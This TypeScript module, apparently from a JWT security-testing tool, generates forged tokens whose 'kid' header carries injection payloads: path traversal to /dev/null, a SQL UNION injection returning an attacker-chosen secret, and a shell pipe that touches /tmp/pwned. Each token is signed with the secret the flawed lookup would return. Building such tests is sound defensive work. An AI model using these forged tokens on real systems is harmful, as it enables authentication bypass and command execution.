/**
 * `kid-injection`: kid values that turn a verifier's key lookup against it, each signed with the secret that
 * lookup would return. The token's HMAC alg is kept (HS256 for any other alg): the lookups return bytes,
 * which a verifier uses as an HMAC secret.
 */
import { utf8Bytes } from '../base64url';
import { hmacAlgorithmFor, hmacToken } from './forge';
import { withHeaderMembers, type AttackTarget } from './target';
import type { AttackVariant } from './types';

interface Injection {
  variant: 'path-traversal' | 'sql-injection' | 'command-injection';
  kid: string;
  /** What the vulnerable lookup returns: the secret the token is signed with. */
  secret: string;
  explanation: string;
}

export const KID_INJECTIONS: readonly Injection[] = [
  {
    variant: 'path-traversal',
    kid: '../../../../../../dev/null',
    secret: '',
    explanation:
      'kid climbs out of the key folder to /dev/null and the token is signed with an empty secret: a verifier that reads the key from a file named by kid reads nothing, the empty key. ' +
      'RFC 8725 §3.10 requires kid to be validated before it is used to look a key up.',
  },
  {
    variant: 'sql-injection',
    kid: "x' UNION SELECT 'attacker-secret'-- ",
    secret: 'attacker-secret',
    explanation:
      'kid closes the SQL string and selects a value of the attacker\'s, and the token is signed with "attacker-secret": a verifier that puts kid into its key query unescaped gets that secret back. ' +
      'RFC 8725 §3.10 names SQL injection through kid.',
  },
  {
    variant: 'command-injection',
    // A marker file is the usual harmless proof of execution; the pipeline prints nothing, so the key read is empty.
    kid: 'key|/usr/bin/touch /tmp/pwned',
    secret: '',
    explanation:
      'kid pipes into a command (it only creates the empty file /tmp/pwned) and the token is signed with an empty secret: a verifier that builds a shell command from kid (cat keys/$kid) runs it and reads an empty key. ' +
      'RFC 8725 §3.10 requires kid to be validated before use.',
  },
];

export async function kidInjectionVariants(target: AttackTarget): Promise<AttackVariant[]> {
  const alg = hmacAlgorithmFor(target.alg);
  return Promise.all(
    KID_INJECTIONS.map(async (injection) => ({
      kind: 'kid-injection' as const,
      variant: injection.variant,
      token: await hmacToken(alg, utf8Bytes(injection.secret), withHeaderMembers(target.headerText, { alg, kid: injection.kid }), target.payloadSegment),
      explanation: injection.explanation,
    })),
  );
}
